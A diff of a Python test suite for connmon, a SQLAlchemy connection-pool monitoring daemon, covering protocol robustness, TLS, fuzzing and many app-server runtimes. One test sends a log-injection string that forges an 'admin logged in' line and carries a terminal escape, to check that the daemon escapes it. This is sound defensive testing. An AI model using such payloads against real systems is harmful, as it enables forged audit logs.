+    (dist_info,) = target.glob("*.dist-info")
+    assert dist_info.name == f"connmon-{connmon.__version__}.dist-info"
+    dist = PathDistribution(dist_info)
+    assert (dist.metadata["Name"], dist.version) == (
+        "connmon", connmon.__version__)
+    assert {(ep.group, ep.name, ep.value) for ep in dist.entry_points} == {
+        *(("sqlalchemy.dialects", name, f"connmon:{attr}")
+          for name, attr in connmon.DIALECT_ENTRY_POINTS.items()),
+        ("sqlalchemy.plugins", "connmon", "connmon:ConnmonPlugin")}
+
+    (dist_info / "INSTALLER").write_text("pip\n")   # as pip would leave it
+    result = subprocess.run(
+        [sys.executable, str(target / "connmon.py"), "--install-entry-points",
+         "--target", str(target)], cwd=tmp_path, env=PLAIN_ENV,
+        capture_output=True, text=True, timeout=30)
+    assert result.returncode == 1
+    assert "exists and was not written by this command" in result.stderr
+    assert (dist_info / "INSTALLER").read_text() == "pip\n"
+
+
+# ===========================================================================
+# Protocol and trust
+#
+# The wire and its door: the message codec and reply limits, authentication,
+# TLS, heartbeats, each role's powers (app, console, peer), caps no client
+# can use to blind the consoles, text checked where it enters and escaped
+# where it leaves, hostile input fuzzed, and an application no faulty daemon
+# can harm.
+# ===========================================================================
+
+
+def test_garbage_is_refused_and_others_carry_on(daemon, apps, tmp_path):
+    app = apps(f"sqlite:///{tmp_path}/g.sqlite?plugin=connmon"
+               f"&connmon_addr={daemon.address}", "honest.py")
+    app("hold 1")
+    daemon.wait_row("honest.py", conn=1, ckout=1)
+    for garbage in (b"\x00\xffnot json\n", b'{"op":"hello","version":99}\n',
+                    b"[1,2]\n", b'{"op": "hello", "role": "app"}\n'):
+        with socket.create_connection(("127.0.0.1", daemon.port), 5) as sock:
+            sock.settimeout(5)
+            rfile = sock.makefile("rb")
+            assert connmon.read_message(rfile)["op"] == "welcome"
+            sock.sendall(garbage)
+            reply = connmon.read_message(rfile)
+            assert reply["op"] == "error", reply
+            assert rfile.readline() == b""   # and the daemon hung up
+    app("hold 1")
+    daemon.wait_row("honest.py", conn=2, ckout=2)
+    assert "not JSON" in daemon.log.read_text()
+
+
+def test_refusal_text_cannot_forge_a_log_line(daemon):
+    """An error a client sends in place of its hello is logged escaped: it
+    can neither start a line of its own nor move the terminal."""
+    with socket.create_connection(("127.0.0.1", daemon.port), 5) as sock:
+        sock.sendall(connmon.encode({"op": "error", "error": (
+            "x\n2099-01-01 connmond INFO admin logged in\x1b[2J")}))
+        sock.settimeout(5)
+        assert sock.recv(4096)   # the daemon answers and hangs up
+    log_text = wait_until(lambda: "admin logged in" in
+                          daemon.log.read_text() and daemon.log.read_text(),
+                          what="the refusal in the daemon's log")
+    assert "\x1b" not in log_text
+    (line,) = [line for line in log_text.splitlines()
+               if "admin logged in" in line]
+    assert "refused: x\\n2099-01-01" in line and "\\x1b[2J" in line
 
 
 def test_auth_right_secret_works_wrong_or_missing_refused(tmp_path, apps):
@@ -3437,39 +7181,6 @@ def test_wire_carries_neither_secret_nor_password(tmp_path, apps):
     finally:
         relay.close()
         daemon.stop()
-
-
-class CertificateAuthority:
-    """A certificate authority made for one test, with files on disk."""
-
-    def __init__(self, tmp_path, name: str):
-        import trustme
-        self.ca = trustme.CA()
-        self.dir = tmp_path / name
-        self.dir.mkdir()
-        self.cafile = str(self.dir / "ca.pem")
-        self.ca.cert_pem.write_to_path(self.cafile)
-
-    def issue(self, name: str, *identities: str) -> tuple:
-        """(certfile, keyfile) of a new leaf certificate."""
-        leaf = self.ca.issue_cert(*identities)
-        certfile, keyfile = (str(self.dir / f"{name}.pem"),
-                             str(self.dir / f"{name}.key"))
-        leaf.cert_chain_pems[0].write_to_path(certfile)
-        leaf.private_key_pem.write_to_path(keyfile)
-        return certfile, keyfile
-
-
-def client_config(tmp_path, daemon: Daemon, name: str, options: str) -> str:
-    """A config file naming the daemon's node, with the client's options."""
-    path = tmp_path / name
-    path.write_text(textwrap.dedent(f"""\
-        [connmon_service_test]
-        name: test
-        nodes:
-            node1 hostname=127.0.0.1:{daemon.port}
-        """) + options)
-    return str(path)
 
 
 def test_tls_right_ca_works_wrong_ca_refused(tmp_path, apps):
@@ -3845,80 +7556,6 @@ def test_daemon_refuses_bad_security_settings(tmp_path, options, message):
     assert message in result.stderr
 
 
-class Thrower:
-    """Throws hostile inputs at a daemon and counts them.
-
-    Each input before the hello needs a connection of its own.  Inputs
-    after a valid hello go one at a time, each followed by a ping: the
-    pong says the daemon took the input and carries on, an error that it
-    refused it (and hung up; the thrower says hello again for the next).
-    """
-
-    def __init__(self, port: int):
-        self.port = port
-        self.thrown = 0
-        self.refused = 0
-        self.serial = 0
-
-    def connect(self) -> tuple:
-        sock = socket.create_connection(("127.0.0.1", self.port), 10)
-        sock.settimeout(10)
-        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
-        rfile = sock.makefile("rb")
-        assert connmon.read_message(rfile)["op"] == "welcome"
-        return sock, rfile
-
-    def before_hello(self, data: bytes) -> None:
-        """Send ``data`` as the first bytes, then end the stream."""
-        sock, rfile = self.connect()
-        with sock:
-            try:
-                sock.sendall(data)
-                sock.shutdown(socket.SHUT_WR)
-                while rfile.read(65536):
-                    pass
-            except OSError:   # the daemon may hang up while we still talk
-                pass
-        self.thrown += 1
-
-    def hello(self, role: str) -> tuple:
-        sock, rfile = self.connect()
-        self.serial += 1
-        proc = {"id": f"fuzz-{self.serial}", "hostname": "fuzz-host",
-                "progname": "fuzz.py", "pid": self.serial, "session": 1}
-        sock.sendall(connmon.encode({"op": "hello", "version": 1,
-                                     "role": role, "proc": proc,
-                                     "service": "test", "node": "node2"}))
-        assert connmon.read_message(rfile) == {"op": "ready"}
-        if role == "app":
-            sock.sendall(connmon.encode({
-                "op": "state", "connect": [[1, 1], [2, 1]], "close": [],
-                "checkout": [[2, 0.5]], "checkin": [], "checkouts": 1,
-                "hold": [0, 0], "peak": [2, 1], "pools": [[1, 5]]}))
-        return sock, rfile
-
-    def after_hello(self, role: str, lines: List[bytes]) -> None:
-        """Send each line after a valid hello of ``role``."""
-        sock = rfile = None
-        try:
-            for line in lines:
-                if sock is None:
-                    sock, rfile = self.hello(role)
-                sock.sendall(line + connmon.encode({"op": "ping"}))
-                self.thrown += 1
-                while True:   # a console's request may have its own reply
-                    reply = connmon.read_message(rfile, 64 << 20)
-                    if reply is None or reply["op"] in ("pong", "error"):
-                        break
-                if reply is None or reply["op"] == "error":
-                    self.refused += 1
-                    sock.close()
-                    sock = None
-        finally:
-            if sock is not None:
-                sock.close()
-
-
 def hostile_strategies():
     """Hypothesis strategies for hostile input, built on first use."""
     from hypothesis import strategies as st
@@ -4107,1175 +7744,6 @@ def test_memory_caps_per_process_and_rows(daemon, monkeypatch):
     assert sorted(picture.rows) == [("h", p) for p in
                                     ("p2", "p4", "p5", "p6", "p7")]
 
-
-# ---------------------------------------------------------------------------
-# App servers and runtimes: uWSGI, gunicorn, Celery, eventlet, gevent,
-# asyncio
-# ---------------------------------------------------------------------------
-
-# One WSGI application for every server.  Its engine is made at import
-# (in a preforking server's master, before the fork, as OpenStack API
-# services do), optionally after monkey-patching.  GET /work holds, on a
-# worker's first request, pid % 3 + 1 connections for good and runs a
-# query; GET /pid only reports.  Both answer the worker's pid and its
-# pool's own counts: the truth connmon is compared with.
-WSGI_APP = r'''
-import json, os, threading, time
-PATCH = {patch!r}
-if PATCH == "eventlet":
-    import eventlet
-    eventlet.monkey_patch()
-elif PATCH == "eventlet-after-connmon":
-    import connmon
-    import eventlet
-    eventlet.monkey_patch()
-elif PATCH == "eventlet-os-false":
-    import eventlet
-    eventlet.monkey_patch(os=False)
-elif PATCH == "gevent":
-    from gevent import monkey
-    monkey.patch_all()
-import sqlalchemy as sa
-
-engine = sa.create_engine({url!r}, pool_size={pool_size}, max_overflow=0)
-if {use_at_load!r}:   # a look at the database while loading, then let go
-    with engine.connect() as conn:
-        conn.execute(sa.text("SELECT 1"))
-    engine.dispose()
-held = []
-first = threading.Lock()
-
-def counts():
-    out = engine.pool.checkedout()
-    return {{"pid": os.getpid(), "conn": out + engine.pool.checkedin(),
-             "ckout": out, "limit": engine.pool.size()}}
-
-def application(environ, start_response):
-    if environ["PATH_INFO"] == "/work":
-        with first:
-            if not held:
-                for _ in range(os.getpid() % 3 + 1):
-                    held.append(engine.connect())
-                    held[-1].execute(sa.text("SELECT 1"))
-        with engine.connect() as conn:
-            conn.execute(sa.text("SELECT SLEEP(0.02)"))
-    else:
-        time.sleep(0.02)   # spreads concurrent probes over the workers
-    body = json.dumps(counts()).encode()
-    start_response("200 OK", [("Content-Type", "application/json"),
-                              ("Content-Length", str(len(body)))])
-    return [body]
-
-def serve_gevent(port):
-    from gevent.pywsgi import WSGIServer
-    WSGIServer(("127.0.0.1", port), application, log=None).serve_forever()
-
-def serve_oslo(port, workers):
-    """oslo.service's eventlet ProcessLauncher, as OpenStack API services
-    ran: the socket and the engine made in the parent, workers forked."""
-    import eventlet.wsgi
-    from oslo_config import cfg
-    from oslo_service import service
-    sock = eventlet.listen(("127.0.0.1", port))
-
-    class WSGIService(service.ServiceBase):
-        def start(self):
-            eventlet.spawn(eventlet.wsgi.server, sock, application,
-                           log_output=False)
-        def stop(self):
-            pass
-        def wait(self):
-            pass
-        def reset(self):
-            pass
-
-    cfg.CONF([], project="connmon-test")
-    launcher = service.ProcessLauncher(cfg.CONF, restart_method="mutate")
-    launcher.launch_service(WSGIService(), workers=workers)
-    launcher.wait()
-
-if __name__ == "__main__":
-    import sys
-    if sys.argv[1] == "gevent":
-        serve_gevent(int(sys.argv[2]))
-    else:
-        serve_oslo(int(sys.argv[2]), int(sys.argv[3]))
-'''
-
-POOL_SIZE = 8
-
-
-def write_wsgi_app(tmp_path, daemon: Daemon, patch: str = "",
-                   use_at_load: bool = False,
-                   name: str = "connmon_wsgi_app") -> pathlib.Path:
-    """The WSGI application file, monitored by ``daemon``."""
-    path = tmp_path / f"{name}.py"
-    path.write_text(WSGI_APP.format(
-        patch=patch, url=monitored(MYSQL_URL, daemon, "plugin"),
-        pool_size=POOL_SIZE, use_at_load=use_at_load))
-    return path
-
-
-class Server:
-    """A real app server subprocess (serving HTTP on a free loopback
-    port), killed with its whole process group.  ``answers`` is what
-    check_server asks it."""
-
-    def __init__(self, tmp_path, argv: List[str], port: int = 0):
-        self.port = port
-        self.log = tmp_path / "server.log"
-        env = dict(CHILD_ENV, PYTHONPATH=os.pathsep.join(
-            [str(tmp_path), CHILD_ENV["PYTHONPATH"]]))
-        self.proc = subprocess.Popen(
-            argv, cwd=tmp_path, env=env, stdin=subprocess.DEVNULL,
-            stdout=open(self.log, "ab"), stderr=subprocess.STDOUT,
-            start_new_session=True)
-
-    def get(self, path: str) -> Dict[str, Any]:
-        import urllib.request
-        with urllib.request.urlopen(f"http://127.0.0.1:{self.port}{path}",
-                                    timeout=5) as reply:
-            return json.loads(reply.read())
-
-    def answers(self, path: str, concurrency: int = 8) -> List[dict]:
-        """``concurrency`` requests at once; the answers that came."""
-        replies: List[dict] = []
-
-        def one():
-            try:
-                replies.append(self.get(path))
-            except OSError:
-                pass
-        threads = [threading.Thread(target=one) for _ in range(concurrency)]
-        for thread in threads:
-            thread.start()
-        for thread in threads:
-            thread.join(10)
-        return replies
-
-    def stop(self) -> None:
-        kill_group(self.proc)
-
-    def log_tail(self) -> str:
-        return self.log.read_text(errors="replace")[-3000:]
-
-
-def check_server(server: Server, daemon: Daemon, progname: str,
-                 workers: int, timeout: float = 40.0) -> None:
-    """Have every worker of the started ``server`` answer (HTTP requests,
-    Celery tasks), then compare connmon's per-pid picture with each
-    worker's own pool counts; stop the server.  A worker that never
-    answers (deadlocked) fails the wait."""
-    try:
-        seen: Dict[int, dict] = {}
-
-        def every_worker_served():
-            if server.proc.poll() is not None:
-                raise AssertionError(f"server exited: {server.log_tail()}")
-            seen.update((r["pid"], r) for r in server.answers("/work"))
-            return len(seen) >= workers
-        try:
-            wait_until(every_worker_served, timeout,
-                       f"{workers} workers to answer")
-        except AssertionError as err:
-            raise AssertionError(f"{err}; answered: {sorted(seen)}\n"
-                                 f"{server.log_tail()}") from None
-        assert len(seen) == workers, seen
-        truth: Dict[int, tuple] = {}
-        picture: Dict[int, tuple] = {}
-
-        def pictures_agree():
-            truth.update((r["pid"], (r["conn"], r["ckout"], r["limit"]))
-                         for r in server.answers("/pid"))
-            row = daemon.row(progname, procs=True)
-            picture.clear()
-            picture.update((p["pid"], (p["conn"], p["ckout"], p["limit"]))
-                           for p in (row or {}).get("procs", []))
-            return set(truth) == set(seen) and picture == truth
-        try:
-            wait_until(pictures_agree, 20, "connmon's picture to equal "
-                       "the workers' pools")
-        except AssertionError:
-            raise AssertionError(f"connmon {picture} != pools {truth}\n"
-                                 f"{server.log_tail()}") from None
-        # Each worker's first request held pid % 3 + 1 for good.
-        assert {pid: t[1] for pid, t in truth.items()} == {
-            pid: pid % 3 + 1 for pid in seen}
-        row = daemon.row(progname)
-        assert (row["nproc"], row["limit"], row["exhausted"]) == (
-            workers, workers * POOL_SIZE, False)
-        log = server.log_tail()
-        assert "Traceback" not in log and "connmon:" not in log, log
-        assert server.log.stat().st_size < 64 << 10, "a flooded log"
-    finally:
-        server.stop()
-
-
-UWSGI_MODES = {
-    "default": [],
-    "lazy-apps": ["--lazy-apps"],
-    "enable-threads": ["--enable-threads"],
-    "fork-hooks": ["--py-call-uwsgi-fork-hooks"],
-    "osafterfork": ["--py-call-osafterfork"],
-}
-
-
-# Several starts of the modes that deadlocked, each with an application
-# that looks at the database while the master loads it.
-@pytest.mark.parametrize("mode, start", [
-    (mode, start) for mode in UWSGI_MODES
-    for start in range(3 if mode in ("default", "osafterfork") else 1)])
-def test_uwsgi_workers_are_counted_and_never_deadlock(tmp_path, mode, start):
-    require_database(MYSQL_URL)
-    daemon = Daemon(tmp_path)
-    try:
-        app = write_wsgi_app(tmp_path, daemon, use_at_load=True)
-        port = free_port()
-        check_server(Server(tmp_path, [
-            "uwsgi", "--http-socket", f"127.0.0.1:{port}", "--master",
-            "--processes", "4", "--wsgi-file", str(app), "--die-on-term",
-            "--disable-logging", *UWSGI_MODES[mode]], port), daemon,
-            "uwsgi", 4)
-    finally:
-        daemon.stop()
-
-
-# The WSGI application, and a spooler function that holds two connections
-# for good (the first time) and writes its pid and pool counts where the
-# task says; GET /spool?PATH enqueues such a task.
-SPOOLER_PART = r'''
-import uwsgi
-
-def spool_task(env):
-    if not held:
-        held.extend(engine.connect() for _ in range(2))
-    with open(env[b"report"], "w") as report:
-        json.dump(counts(), report)
-    return uwsgi.SPOOL_OK
-
-uwsgi.spooler = spool_task
-serve = application
-
-def application(environ, start_response):
-    if environ["PATH_INFO"] == "/spool":
-        uwsgi.spool({b"report": environ["QUERY_STRING"].encode()})
-    return serve(environ, start_response)
-'''
-
-
-def test_uwsgi_spooler_is_counted(tmp_path):
-    """A spooler, forked with C fork() from the master that loaded the
-    application, is listed as its own process with its pool's counts."""
-    require_database(MYSQL_URL)
-    daemon = Daemon(tmp_path)
-    try:
-        app = write_wsgi_app(tmp_path, daemon, use_at_load=True)
-        app.write_text(app.read_text() + SPOOLER_PART)
-        spool, report = tmp_path / "spool", tmp_path / "report.json"
-        spool.mkdir()
-        port = free_port()
-        server = Server(tmp_path, [
-            "uwsgi", "--http-socket", f"127.0.0.1:{port}", "--master",
-            "--processes", "2", "--spooler", str(spool), "--wsgi-file",
-            str(app), "--die-on-term", "--disable-logging"], port)
-        try:
-            wait_until(lambda: server.answers(f"/spool?{report}", 1), 40,
-                       "uWSGI to serve")
-            wait_until(report.exists, 20, "the spooler to run the task")
-            truth = json.loads(report.read_text())
-            assert (truth["conn"], truth["ckout"]) == (2, 2)
-            workers = {r["pid"] for r in server.answers("/pid", 8)}
-            assert truth["pid"] not in workers
-
-            def spooler_listed():
-                row = daemon.row("uwsgi", procs=True) or {}
-                return {p["pid"]: (p["conn"], p["ckout"], p["limit"])
-                        for p in row.get("procs", [])}.get(truth["pid"])
-            wait_until(lambda: spooler_listed() == (2, 2, POOL_SIZE), 20,
-                       "the spooler to be listed with its counts")
-            log = server.log_tail()
-            assert "Traceback" not in log and "connmon:" not in log, log
-        finally:
-            server.stop()
-    finally:
-        daemon.stop()
-
-
-# With --preload the master imports the application (the engine is made
-# before the fork); without it each worker imports it after the fork.
-@pytest.mark.parametrize("worker, preload", [
-    ("sync", True), ("sync", False), ("gthread", True), ("gevent", True),
-    ("gevent", False)])
-def test_gunicorn_workers_are_counted(tmp_path, worker, preload):
-    require_database(MYSQL_URL)
-    daemon = Daemon(tmp_path)
-    try:
-        write_wsgi_app(tmp_path, daemon,
-                       patch="gevent" if worker == "gevent" else "")
-        port = free_port()
-        check_server(Server(tmp_path, [
-            "gunicorn", *(["--preload"] if preload else []), "-w", "3",
-            "-k", worker, *(["--threads", "4"] if worker == "gthread" else []),
-            "-b", f"127.0.0.1:{port}",
-            "connmon_wsgi_app:application"], port), daemon, "gunicorn", 3)
-    finally:
-        daemon.stop()
-
-
-@pytest.mark.parametrize("patch", ["eventlet", "eventlet-after-connmon",
-                                   "eventlet-os-false"])
-def test_eventlet_oslo_service_workers_are_counted(tmp_path, patch):
-    require_database(MYSQL_URL)
-    require_module("oslo_service")
-    daemon = Daemon(tmp_path)
-    try:
-        app = write_wsgi_app(tmp_path, daemon, patch=patch)
-        port = free_port()
-        check_server(Server(tmp_path, [
-            sys.executable, str(app), "oslo", str(port), "2"], port), daemon,
-            app.name, 2)
-    finally:
-        daemon.stop()
-
-
-def test_gevent_patch_all_app_is_counted(tmp_path):
-    require_database(MYSQL_URL)
-    daemon = Daemon(tmp_path)
-    try:
-        app = write_wsgi_app(tmp_path, daemon, patch="gevent")
-        port = free_port()
-        check_server(Server(tmp_path, [
-            sys.executable, str(app), "gevent", str(port)], port), daemon,
-            app.name, 1)
-    finally:
-        daemon.stop()
-
-
-# A Celery app whose tasks answer as the WSGI application's requests do,
-# with its engine: made when the worker's main process imports the app,
-# before the prefork pool forks its children.  The broker and the result
-# backend are folders (kombu's filesystem transport, Celery's file://
-# backend): no service to run.
-CELERY_APP = r"""
-import json
-from celery import Celery
-import connmon_wsgi_app
-
-app = Celery("connmon_celery_app")
-app.conf.update({config!r})
-
-@app.task(name="answer")
-def answer(path):
-    body = connmon_wsgi_app.application({{"PATH_INFO": path}},
-                                        lambda status, headers: None)
-    return json.loads(b"".join(body))
-"""
-
-
-class CeleryWorker(Server):
-    """A real Celery worker with a prefork pool of ``concurrency``
-    children, its app's engine monitored by ``daemon``; the test sends it
-    tasks through its folders."""
-
-    def __init__(self, tmp_path, daemon: Daemon, concurrency: int):
-        import celery
-        folders = {name: tmp_path / "celery" / name for name in
-                   ("queue", "processed", "control", "results")}
-        for folder in folders.values():
-            folder.mkdir(parents=True)
-        config = {
-            "broker_url": "filesystem://",
-            "broker_transport_options": {
-                "data_folder_in": str(folders["queue"]),
-                "data_folder_out": str(folders["queue"]),
-                "store_processed": True,
-                "processed_folder": str(folders["processed"]),
-                "control_folder": str(folders["control"]),
-                "polling_interval": 0.02},
-            "broker_connection_retry_on_startup": True,
-            "result_backend": f"file://{folders['results']}",
-            "worker_prefetch_multiplier": 1}
-        write_wsgi_app(tmp_path, daemon)
-        (tmp_path / "connmon_celery_app.py").write_text(
-            CELERY_APP.format(config=config))
-        self.client = celery.Celery("connmon-test-client")
-        self.client.conf.update(config)
-        super().__init__(tmp_path, [
-            "celery", "-A", "connmon_celery_app", "worker",
-            "--pool=prefork", f"--concurrency={concurrency}",
-            "--without-gossip", "--without-mingle", "--without-heartbeat",
-            "--loglevel=WARNING"])
-
-    def answers(self, path: str, concurrency: int = 8) -> List[dict]:
-        """``concurrency`` tasks at once; the answers that came within
-        ten seconds (a task that failed fails the test)."""
-        import celery.exceptions
-        results = [self.client.send_task("answer", [path])
-                   for _ in range(concurrency)]
-        deadline = time.monotonic() + 10
-        replies = []
-        for result in results:
-            try:
-                replies.append(result.get(
-                    timeout=max(0.1, deadline - time.monotonic()),
-                    interval=0.02))
-            except celery.exceptions.TimeoutError:
-                pass
-        return replies
-
-    def stop(self) -> None:
-        super().stop()
-        self.client.close()
-
-
-def test_celery_prefork_workers_are_counted(tmp_path):
-    require_database(MYSQL_URL)
-    require_module("celery")
-    daemon = Daemon(tmp_path)
-    try:
-        check_server(CeleryWorker(tmp_path, daemon, 3), daemon, "celery", 3)
-    finally:
-        daemon.stop()
-
-
-class Script:
-    """A small program of a test's own, run with this checkout's connmon
-    in a session of its own; it prints lines the test reads (bounded)."""
-
-    def __init__(self, tmp_path, name: str, source: str, *args: str,
-                 python: Tuple[str, ...] = ()):
-        path = tmp_path / name
-        path.write_text(source)
-        self.proc = subprocess.Popen(
-            [sys.executable, *python, str(path), *args], cwd=HERE,
-            env=CHILD_ENV, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
-            text=True, start_new_session=True)
-        # (a reader thread: select() cannot see lines already buffered)
-        self.lines: "queue.Queue[str]" = queue.Queue()
-        threading.Thread(target=lambda: list(map(self.lines.put,
-                                                 self.proc.stdout)),
-                         daemon=True).start()
-
-    def send(self, line: str) -> None:
-        self.proc.stdin.write(line + "\n")
-        self.proc.stdin.flush()
-
-    def line(self, timeout: float = 60.0) -> List[str]:
-        try:
-            return self.lines.get(timeout=timeout).split()
-        except queue.Empty:
-            raise AssertionError(f"no line from the program in {timeout} s"
-                                 ) from None
-
-    def stop(self) -> None:
-        kill_group(self.proc)
-
-
-# A parent that uses its engine, then forks a worker with C fork() (as
-# uWSGI does: no Python at-fork hook runs) or with os.fork(); the worker
-# holds two connections of its own.
-FORK_SCRIPT = r'''
-import ctypes, os, sys, time
-import sqlalchemy as sa
-
-engine = sa.create_engine(sys.argv[1], pool_size=4, max_overflow=0)
-parent_held = engine.connect()
-sys.stdin.readline()   # the test has seen the parent: fork now
-if sys.argv[2] == "c":
-    # PyDLL: the GIL stays held across fork(), so the child owns it
-    pid = ctypes.PyDLL(None).fork()
-else:
-    pid = os.fork()
-if pid == 0:
-    held = [engine.connect() for _ in range(2)]
-    while True:
-        time.sleep(60)
-print(pid, flush=True)
-while True:
-    time.sleep(60)
-'''
-
-
-@pytest.mark.parametrize("fork", ["c", "os"])
-def test_forked_child_counted_and_killed_parent_leaves_at_once(
-        daemon, tmp_path, fork):
-    """A child of C fork() notices its new pid and starts its own sender;
-    either child closes the parent's daemon socket, so the parent,
-    SIGKILLed, leaves the counts at once (not after the 30 s heartbeat)."""
-    parent = Script(tmp_path, "forker.py", FORK_SCRIPT,
-                    f"sqlite:///{tmp_path}/f.sqlite?plugin=connmon"
-                    f"&connmon_addr={daemon.address}", fork)
-    try:
-        daemon.wait_row("forker.py", nproc=1, conn=1, ckout=1)
-        # (a C fork in the middle of the parent's busy spell is noticed at
-        # the child's first event after connmon.WAKE_AGAIN: see README)
-        time.sleep(3 * connmon.WAKE_AGAIN)
-        parent.send("fork")
-        (child,) = map(int, parent.line())
-        row = daemon.wait_row("forker.py", procs=True, nproc=2, conn=3,
-                              ckout=3)
-        assert {p["pid"]: (p["conn"], p["ckout"], p["limit"])
-                for p in row["procs"]} == {parent.proc.pid: (1, 1, 4),
-                                           child: (2, 2, 4)}
-        parent.proc.kill()
-        row = daemon.wait_row("forker.py", procs=True, nproc=1,
-                              conn=2, ckout=2)
-        assert [p["pid"] for p in row["procs"]] == [child]
-    finally:
-        parent.stop()
-
-
-FIRST_USE_SCRIPT = r'''
-import os, sys
-import sqlalchemy as sa
-import connmon
-
-def threads():
-    return len(os.listdir("/proc/self/task"))
-
-engine = sa.create_engine(sys.argv[1], pool_size=2)
-print("made", threads(), len(connmon._senders), flush=True)
-pid = os.fork()   # on Python 3.12+ this warns if other threads exist
-if pid == 0:
-    os._exit(0)
-os.waitpid(pid, 0)
-with engine.connect() as conn:
-    conn.execute(sa.text("SELECT 1"))
-print("used", threads(), flush=True)
-sys.stdin.readline()
-'''
-
-
-def test_no_thread_until_the_first_pool_event(daemon, tmp_path):
-    """An app that makes its engine and forks before using it has no
-    thread of connmon's at the fork (Python 3.12 warns about those)."""
-    app = Script(tmp_path, "threads.py", FIRST_USE_SCRIPT,
-                 f"sqlite:///{tmp_path}/t.sqlite?plugin=connmon"
-                 f"&connmon_addr={daemon.address}",
-                 python=("-W", "error::DeprecationWarning"))
-    try:
-        assert app.line() == ["made", "1", "1"]
-        assert app.line() == ["used", "3"]
-        daemon.wait_row("threads.py", nproc=1, conn=1, ckout=0)
-    finally:
-        app.stop()
-
-
-# A uWSGI master, as connmon sees one: the "uwsgi" module the server
-# embeds says worker 0, mule 0.  The application churns its pool there;
-# nothing may grow, and the counts are right once it becomes a worker.
-MASTER_SCRIPT = r'''
-import sys, types
-import sqlalchemy as sa
-uwsgi = sys.modules["uwsgi"] = types.ModuleType("uwsgi")
-uwsgi.worker_id = lambda: worker
-uwsgi.mule_id = lambda: 0
-uwsgi.i_am_the_spooler = lambda: None
-worker = 0
-import connmon
-
-engine = sa.create_engine(sys.argv[1], pool_size=3, max_overflow=0)
-held = [engine.connect(), engine.connect()]
-(sender,) = connmon._senders.values()
-longest = 0
-for _ in range(60000):
-    engine.connect().close()
-    longest = max(longest, len(sender.events))
-print(len(sender.threads), longest, connmon.MAX_QUEUED, flush=True)
-worker = 1   # the loading process becomes worker 1 (uWSGI without --master)
-engine.connect().close()
-print(len(sender.threads), flush=True)
-sys.stdin.readline()
-'''
-
-
-def test_queue_bounded_while_no_thread_may_start(daemon, tmp_path):
-    master = Script(tmp_path, "master.py", MASTER_SCRIPT,
-                    f"sqlite:///{tmp_path}/m.sqlite?plugin=connmon"
-                    f"&connmon_addr={daemon.address}")
-    try:
-        started, longest, cap = map(int, master.line(timeout=120))
-        assert started == 0
-        assert cap // 2 < longest <= cap
-        assert master.line() == ["2"]
-        # Nothing was lost: 60,000 checkouts folded on the way.
-        row = daemon.wait_row("master.py", nproc=1, conn=3, ckout=2)
-        assert row["limit"] == 3
-    finally:
-        master.stop()
-
-
-# An asyncio engine (aiomysql) with ?plugin=connmon: tasks hold and churn
-# connections; the pool's own counts are the truth.
-ASYNC_SCRIPT = r'''
-import asyncio, os, sys
-import sqlalchemy as sa
-from sqlalchemy.ext.asyncio import create_async_engine
-
-async def main():
-    engine = create_async_engine(sys.argv[1], pool_size=6, max_overflow=0)
-    held = []
-    for _ in range(3):
-        held.append(await engine.connect())
-        await held[-1].execute(sa.text("SELECT 1"))
-
-    async def churn():
-        for _ in range(20):
-            async with engine.connect() as conn:
-                await conn.execute(sa.text("SELECT 1"))
-    await asyncio.gather(*(churn() for _ in range(3)))
-    pool = engine.sync_engine.pool
-    print(os.getpid(), pool.checkedout() + pool.checkedin(),
-          pool.checkedout(), flush=True)
-    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.readline)
-
-asyncio.run(main())
-'''
-
-
-# An app patched by eventlet or gevent, reporting over TLS with the apps'
-# secret, that holds two connections and then blocks its hub (a blocking
-# read of stdin on the patched main thread): connmon's own threads, real
-# ones, keep the daemon's picture right meanwhile.
-GREEN_TLS_SCRIPT = r"""
-import logging, sys
-if sys.argv[1] == "eventlet":
-    import eventlet
-    eventlet.monkey_patch()
-else:
-    from gevent import monkey
-    monkey.patch_all()
-import sqlalchemy as sa
-
-logged = []
-
-class Keep(logging.Handler):
-    def emit(self, record):
-        logged.append(record.getMessage())
-
-logging.getLogger("connmon").addHandler(Keep())
-logging.getLogger("connmon").setLevel(logging.INFO)
-engine = sa.create_engine(sys.argv[2], pool_size=4)
-held = [engine.connect() for _ in range(2)]
-for conn in held:
-    conn.exec_driver_sql("SELECT 1")
-print("ready", flush=True)
-sys.stdin.readline()
-print("logged", repr(logged).replace(" ", "_"), flush=True)
-"""
-
-
-@pytest.mark.parametrize("runtime", ["eventlet", "gevent"])
-def test_green_app_reports_over_tls_while_its_hub_is_blocked(tmp_path,
-                                                             runtime):
-    ca = CertificateAuthority(tmp_path, "ca")
-    certfile, keyfile = ca.issue("server", "127.0.0.1")
-    good = secret_file(tmp_path, "good.secret")
-    daemon = SecureDaemon(tmp_path, extra_config=(
-        f"auth_secret_file: {good}\nssl_certfile: {certfile}\n"
-        f"ssl_keyfile: {keyfile}\nssl_cafile: {ca.cafile}\n"))
-    trusting = client_config(tmp_path, daemon, "trusting.cfg", (
-        f"auth_secret_file: {good}\nssl_cafile: {ca.cafile}\n"))
-    app = Script(tmp_path, "green_tls.py", GREEN_TLS_SCRIPT, runtime,
-                 sqlite_app_url(tmp_path, f"connmon_config={trusting}"
-                                "&connmon_service=test"))
-    try:
-        assert app.line() == ["ready"]
-        row = daemon.wait_row("green_tls.py", procs=True, conn=2, ckout=2)
-        assert [p["pid"] for p in row["procs"]] == [app.proc.pid]
-        app.send("report")
-        kind, logged = app.line()
-        assert kind == "logged"
-        # Only the one line that says it connected: no error, no retry.
-        assert logged == ('["connmon:_connected_to_connmond_service_'
-                          "'test'_(node_node1)\"]")
-    finally:
-        app.stop()
-        daemon.stop()
-
-
-@pytest.mark.parametrize("form", ["aiomysql-plugin", "psycopg-dialect"])
-def test_asyncio_engine_is_counted(daemon, tmp_path, form):
-    """?plugin=connmon on an asyncio driver's URL, or the <driver>_connmon
-    name of a driver that has an asyncio dialect too."""
-    if form == "aiomysql-plugin":
-        require_database(MYSQL_URL)
-        url = (MYSQL_URL.replace("+pymysql", "+aiomysql")
-               + f"?plugin=connmon&connmon_addr={daemon.address}")
-    else:
-        require_database(POSTGRESQL_URL)
-        url = monitored(POSTGRESQL_URL.replace("+psycopg2", "+psycopg"),
-                        daemon)
-    app = Script(tmp_path, "asyncapp.py", ASYNC_SCRIPT, url)
-    try:
-        pid, conn, ckout = map(int, app.line())
-        assert ckout == 3 and conn >= 4
-        # (the checkout count may come a message after the connections:
